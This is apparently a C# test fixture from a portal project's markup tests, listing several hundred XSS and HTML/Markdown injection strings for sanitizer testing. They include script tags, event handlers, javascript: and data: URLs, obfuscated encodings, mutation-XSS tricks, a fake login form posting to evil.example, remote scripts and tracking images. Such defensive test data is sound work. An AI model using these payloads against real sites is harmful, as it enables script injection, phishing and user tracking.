namespace ClusterPortal.Tests.Markup;

/// <summary>Texts written to get something active, dangerous or disguised into a page. One a line; \n, \t, \r, \0 and \u stand for themselves.</summary>
internal static class Attacks
{
    public static string[] All { get; } = [.. Lines.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(Unescaped).Distinct(StringComparer.Ordinal)];

    private static string Unescaped(string line) => line
        .Replace("\\n", "\n", StringComparison.Ordinal).Replace("\\t", "\t", StringComparison.Ordinal)
        .Replace("\\r", "\r", StringComparison.Ordinal).Replace("\\0", "\0", StringComparison.Ordinal)
        .Replace("\\u200B", "\u200B", StringComparison.Ordinal).Replace("\\u202E", "\u202E", StringComparison.Ordinal)
        .Replace("\\u00A0", "\u00A0", StringComparison.Ordinal).Replace("\\u0001", "\u0001", StringComparison.Ordinal);

    private const string Lines = """"
        <script>alert(1)</script>
        <SCRIPT>alert(1)</SCRIPT>
        <script src=//evil.example/x.js></script>
        <script src="https://evil.example/x.js"></script>
        <script type=module>import 'https://evil.example/x.js'</script>
        <script>/*</script><img src=x onerror=alert(1)>*/</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script\n>alert(1)</script\n>
        <script/x>alert(1)</script/x>
        <script>alert(1)
        <script>alert(1)</script
        < script>alert(1)</ script>
        <\0script>alert(1)</script>
        <scr\0ipt>alert(1)</script>
        <script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
        <svg><script>alert(1)</script></svg>
        <svg><script href="data:text/javascript,alert(1)"/></svg>
        <math><script>alert(1)</script></math>
        text <script>alert(1)</script> text
        **<script>alert(1)</script>**
        *<script>*alert(1)*</script>*
        - <script>alert(1)</script>
        > <script>alert(1)</script>
        # <script>alert(1)</script>
        <script>\n\nalert(1)\n\n</script>
        <!--<script>alert(1)</script>-->
        <!--><script>alert(1)</script>
        <!---><script>alert(1)</script>-->
        <!-- --!><script>alert(1)</script>
        <!-- a -- ><img src=x onerror=alert(1)>
        <!-- <!-- --><img src=x onerror=alert(1)>-->
        <![CDATA[<script>alert(1)</script>]]>
        <![CDATA[ ]]><img src=x onerror=alert(1)>
        <!DOCTYPE html><script>alert(1)</script>
        <!ELEMENT x><img src=x onerror=alert(1)>
        <?xml version="1.0"?><script>alert(1)</script>
        <?php echo '<script>' ?><img src=x onerror=alert(1)>
        <? ><img src=x onerror=alert(1)>
        </ <img src=x onerror=alert(1)>
        <//script><img src=x onerror=alert(1)>
        <img src=x onerror=alert(1)>
        <img src=x onerror="alert(1)"//>
        <img/src=x/onerror=alert(1)>
        <img\tsrc=x\tonerror=alert(1)>
        <img\nsrc=x\nonerror=alert(1)>
        <img src="x" onerror='alert(1)'>
        <img src=x:x onerror=alert(1)>
        <img src=javascript:alert(1)>
        <img src=`x`onerror=alert(1)>
        <img """><script>alert(1)</script>">
        <img src=x onerror=alert(1)//
        <IMG SRC=x ONERROR=alert(1)>
        <image src=x onerror=alert(1)>
        <img srcset="x 1x" onerror=alert(1)>
        <picture><source srcset=x><img onerror=alert(1)></picture>
        <body onload=alert(1)>
        <html onclick=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><g onload=alert(1)></g></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
        <svg><set attributeName=href to=javascript:alert(1)></svg>
        <svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><p><style><g title="</style><img src=x onerror=alert(1)>">
        <math><mi//xlink:href="data:x,<script>alert(1)</script>">
        <math><mtext><table><mglyph><style><math href=javascript:alert(1)>x</math></style></mglyph></table></mtext></math>
        <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
        <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <details open ontoggle=alert(1)>
        <details ontoggle="alert(1)" open><summary onclick=alert(1)>x</summary></details>
        <details open="" style="position:fixed">x</details>
        <summary onclick=alert(1)>x</summary>
        <video src=x onerror=alert(1)></video>
        <video><source onerror=alert(1)></video>
        <audio src=x onerror=alert(1)></audio>
        <video poster=javascript:alert(1)>
        <input onfocus=alert(1) autofocus>
        <select onfocus=alert(1) autofocus>
        <textarea onfocus=alert(1) autofocus>
        <keygen onfocus=alert(1) autofocus>
        <marquee onstart=alert(1)>x</marquee>
        <div onmouseover=alert(1)>x</div>
        <b onmouseover=alert(1)>x</b>
        <kbd onmouseover=alert(1)>x</kbd>
        <kbd/onmouseover=alert(1)>x</kbd>
        <kbd title="x" onmouseover="alert(1)">x</kbd>
        <kbd\nonmouseover\n=\nalert(1)>x</kbd>
        <abbr title="x" onmouseover="alert(1)">x</abbr>
        <abbr title='x"onmouseover="alert(1)'>x</abbr>
        <abbr title="x&quot; onmouseover=&quot;alert(1)">x</abbr>
        <abbr title=x"onmouseover="alert(1)>x</abbr>
        <abbr title="><script>alert(1)</script>">x</abbr>
        <abbr title="&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>
        <span lang='x" onclick="alert(1)'>x</span>
        <span dir="ltr onclick=alert(1)">x</span>
        <span lang=en onclick=alert(1)>x</span>
        <span class=overlay id=main name=x style=position:fixed>x</span>
        <q cite="javascript:alert(1)">x</q>
        <del cite="javascript:alert(1)">x</del>
        <ins cite=javascript:alert(1) datetime=x>x</ins>
        <br onclick=alert(1)>
        <br/onclick=alert(1)/>
        <ruby onclick=alert(1)>x<rt onclick=alert(1)>y</ruby>
        <b><i></b></i><u></s>
        <b <script>alert(1)</script>>x</b>
        <b title="a>b" onclick=alert(1)>x</b>
        <b title='<script>'>x</b>
        <b x=">" onclick=alert(1)>x</b>
        <b =onclick=alert(1)>x</b>
        <b "onclick=alert(1)">x</b>
        <b '">x</b><img src=x onerror=alert(1)>
        <a href=javascript:alert(1)>x</a>
        <a href="java\nscript:alert(1)">x</a>
        <a href="&#106;avascript:alert(1)">x</a>
        <a href="https://ok.example" onclick=alert(1)>x</a>
        <a href=data:text/html,<script>alert(1)</script>>x</a>
        <a id=location name=cookie>x</a>
        <a href=x target=_blank>x</a>
        <area href=javascript:alert(1)>
        <iframe src=javascript:alert(1)></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe/src=https://evil.example>
        <object data=javascript:alert(1)></object>
        <object data="data:text/html,<script>alert(1)</script>"></object>
        <embed src=javascript:alert(1)>
        <applet code=x></applet>
        <frameset><frame src=javascript:alert(1)></frameset>
        <portal src=javascript:alert(1)>
        <base href=https://evil.example/>
        <base target=_blank>
        <link rel=stylesheet href=https://evil.example/x.css>
        <link rel=import href=data:text/html,x>
        <meta http-equiv=refresh content="0;url=https://evil.example">
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <style>*{background:url(https://evil.example/x)}</style>
        <style>@import 'https://evil.example/x.css';</style>
        <style><!--</style><script>alert(1)</script>
        <style>x{}</style><img src=x onerror=alert(1)>
        <p style="background:url(javascript:alert(1))">x</p>
        <p style="position:fixed;inset:0;z-index:9999">x</p>
        <div style="width:expression(alert(1))">x</div>
        <font color="x" style="x">x</font>
        <title><img src=x onerror=alert(1)></title>
        <textarea><img src=x onerror=alert(1)></textarea>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noembed><p title="</noembed><img src=x onerror=alert(1)>">
        <noframes><p title="</noframes><img src=x onerror=alert(1)>">
        <xmp><p title="</xmp><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <template><p title="</template><img src=x onerror=alert(1)>">
        <plaintext><script>alert(1)</script>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <form action=https://evil.example><input name=password type=password><button>Log in</button></form>
        <form id=test></form><button form=test formaction=javascript:alert(1)>x</button>
        <button formaction=javascript:alert(1)>x</button>
        <input type=image src=x formaction=javascript:alert(1)>
        <form name=cookie><input id=attributes></form>
        <isindex type=image src=1 onerror=alert(1)>
        <dialog open>x</dialog>
        <div popover id=x>x</div>
        <div contenteditable autofocus onfocus=alert(1)>x</div>
        <div id=content class=nav name=head>x</div>
        <x-y is="script" onclick=alert(1)>x</x-y>
        <table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>
        <table><td></table><p>x
        </td></tr></table></div></main></body></html><h1>x</h1>
        </p></div></article>
        </li></ul></section>
        </textarea></title></style></script></template>
        </details></summary>
        [x](javascript:alert(1))
        [x](JAVASCRIPT:alert(1))
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&#x3A;alert(1))
        [x](&#106;&#97;&#118;&#97;script:alert(1))
        [x](&#x6A;avascript:alert(1))
        [x](java&Tab;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](java&#9;script:alert(1))
        [x](java&#10;script:alert(1))
        [x](java&#0;script:alert(1))
        [x](java\0script:alert(1))
        [x](&#1;javascript:alert(1))
        [x](\u0001javascript:alert(1))
        [x](<\tjavascript:alert(1)>)
        [x](< javascript:alert(1)>)
        [x](<java script:alert(1)>)
        [x](\u00A0javascript:alert(1))
        [x](\u200Bjavascript:alert(1))
        [x](java\u200Bscript:alert(1))
        [x](javascript\\:alert(1))
        [x](j\\avascript:alert(1))
        [x](javascript://evil.example/%0Aalert(1))
        [x](javascript:javascript:alert(1))
        [x](feed:javascript:alert(1))
        [x](view-source:javascript:alert(1))
        [x](jar:javascript:alert(1))
        [x](blob:https://evil.example/1)
        [x](filesystem:https://evil.example/1)
        [x](intent://evil.example/#Intent;end)
        [x](ms-msdt:/id)
        [x](vbscript:msgbox(1))
        [x](livescript:x)
        [x](mocha:x)
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](data:text/html,<script>alert(1)</script>)
        [x](DATA:text/html,x)
        [x](data:image/svg+xml,<svg onload=alert(1)>)
        [x](file:///etc/passwd)
        [x](ftp://evil.example)
        [x](about:blank)
        [x](chrome://settings)
        [x](//evil.example)
        [x](///evil.example)
        [x](/\\evil.example)
        [x](\\\\evil.example)
        [x](/\t/evil.example)
        [x](https:\\\\evil.example)
        [x](https:evil.example)
        [x](https:///evil.example)
        [x](http://user:pw@evil.example)
        [x](https://ok.example@evil.example)
        [x](https://ok.example%40evil.example@evil.example)
        [x](https://ok.example\u202Eelpmaxe.live)
        [x](https://ok.example&#x202E;/x)
        [x](https://\u0430pple.example)
        [x](https://evil.example" onclick="alert(1))
        [x](https://evil.example' onclick='alert(1))
        [x](<https://evil.example"onclick=alert(1)>)
        [x](https://evil.example/%22onclick=alert(1))
        [x](https://evil.example/"><script>alert(1)</script>)
        [x](https://evil.example "title\" onclick=\"alert(1)")
        [x](https://evil.example 'x"onmouseover="alert(1)')
        [x](https://evil.example "<script>alert(1)</script>")
        [x](mailto:a@b.example?bcc=evil@evil.example)
        [x](mailto:a@b.example%0Abcc:evil@evil.example)
        [x](mailto:"<script>"@b.example)
        [x](tel:+45;javascript:alert(1))
        [x](sms:1)
        [x](?javascript:alert(1))
        [x](./javascript:alert(1))
        [x](#javascript:alert(1))
        [x](#"onclick="alert(1))
        [x](#<script>alert(1)</script>)
        [x](")
        [x]('onclick=alert(1)')
        [x][1]\n\n[1]: javascript:alert(1)
        [x][1]\n\n[1]: <javascript:alert(1)>
        [x][1]\n\n[1]: https://evil.example "x\" onclick=\"alert(1)"
        [x][1]\n\n[1]: data:text/html,x
        [x]\n\n[x]: vbscript:x
        [<script>]: https://ok.example\n\n[<script>]
        [<img src=x onerror=alert(1)>](https://ok.example)
        [![x](javascript:alert(1))](javascript:alert(1))
        [![x" onerror="alert(1)](lab.jpg)](https://ok.example)
        [a [b](javascript:alert(1)) c](https://ok.example)
        [x](https://ok.example){onclick=alert(1)}
        [x](https://ok.example){: onclick=alert(1)}
        [x](https://ok.example){#cookie .x target=_blank}
        ![x](javascript:alert(1))
        ![x](data:image/svg+xml,<svg onload=alert(1)>)
        ![x](data:image/png;base64,AAAA)
        ![x](https://evil.example/track.gif)
        ![x](//evil.example/track.gif)
        ![x" onerror="alert(1)](lab.jpg)
        ![x' onerror='alert(1)](lab.jpg)
        ![<script>alert(1)</script>](lab.jpg)
        ![x](lab.jpg "x\" onerror=\"alert(1)")
        ![x](lab.jpg "<img src=x onerror=alert(1)>")
        ![x](lab.jpg){onerror=alert(1)}
        ![x](lab.jpg" onerror="alert(1))
        ![x][1]\n\n[1]: javascript:alert(1)
        ![&quot; onerror=&quot;alert(1)](lab.jpg)
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <data:text/html,x>
        <vbscript:x>
        <java\u0001script:x>
        <https://user@evil.example>
        <https://evil.example/"onclick="alert(1)>
        <"onclick=alert(1)"@evil.example>
        <a@b.example?bcc=x>
        https://evil.example/"onmouseover="alert(1)
        https://evil.example/<script>alert(1)</script>
        www.evil.example"onclick="alert(1)
        javascript:alert(1)
        mailto:a@b.example"onclick="alert(1)
        tel:1"onclick="alert(1)
        `<script>alert(1)</script>`
        ``` <script>\nalert(1)\n```
        ```html" onclick="alert(1)\nx\n```
        ```x><script>alert(1)</script>\nx\n```
        ```js {onclick=alert(1)}\nx\n```
            <script>alert(1)</script>
        ~~~"><img src=x onerror=alert(1)>\nx\n~~~
        # x {#cookie onclick=alert(1)}
        # " onclick="alert(1)
        # '><script>alert(1)</script>
        # <img src=x onerror=alert(1)>
        # cookie\n\n# location\n\n# __proto__\n\n# attributes
        ## <b id=x>y</b>
        x {.overlay onclick=alert(1)}
        {onclick=alert(1)}\n# x
        ::: overlay onclick=alert(1)\nx\n:::
        | a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |
        | <b onclick=alert(1)>a</b> |\n|---|\n| [x](javascript:alert(1)) |
        | a"onclick="alert(1) |\n|:-:|\n| x |
        | </td></table><script>alert(1)</script> |\n|---|\n| x |
        *[x]: " onmouseover="alert(1)\n\nx
        *[x]: <script>alert(1)</script>\n\nx
        *[<script>]: x\n\n<script>
        x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <script>alert(1)</script>
        x[^1]\n\n[^1]: [y](javascript:alert(1))
        x[^<script>]\n\n[^<script>]: y
        Term\n:   <script>alert(1)</script>
        <script>\n:   alert(1)
        - [x] <script>alert(1)</script>
        - [x](javascript:alert(1)) y
        1. <img src=x onerror=alert(1)>
        9999999999. x
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        &#x3C;img src=x onerror=alert(1)&#x3E;
        &amp;lt;script&amp;gt;
        \\<script>alert(1)\\</script>
        <div>\n&lt;script&gt;alert(1)&lt;/script&gt;\n</div>
        <div>\n&#60;img src=x onerror=alert(1)&#62;\n</div>
        <kbd>&lt;script&gt;alert(1)&lt;/script&gt;</kbd>
        <details>\n<summary>&lt;img src=x onerror=alert(1)&gt;</summary>\n\n[x](javascript:alert(1))\n\n</details>
        <details>\n<script>alert(1)</script>\n</details>
        <details>\n<summary><details><summary>x</summary></details></summary>\n</details>
        <details\nopen\nonclick=alert(1)\n>
        <kbd>\n\n<script>\n\n</kbd>
        $$\\href{javascript:alert(1)}{x}$$
        ^^^\n<script>alert(1)</script>\n^^^
        :smile<script>alert(1)</script>:
        <!-- x\n\n<script>alert(1)</script>\n\n-->
        <pre><code onclick=alert(1)><script>alert(1)</script></code></pre>
        <textarea>\n\n</textarea><script>alert(1)</script>
        <svg>\n\n<script>\n\nalert(1)\n\n</script>\n\n</svg>
        <a <b>c</b> href=javascript:alert(1)>x</a>
        <<script>script>alert(1)<</script>/script>
        <img src="x\n\n" onerror=alert(1)>
        <b\u00A0onclick=alert(1)>x</b>
        <b\u0001onclick=alert(1)>x</b>
        """";
}
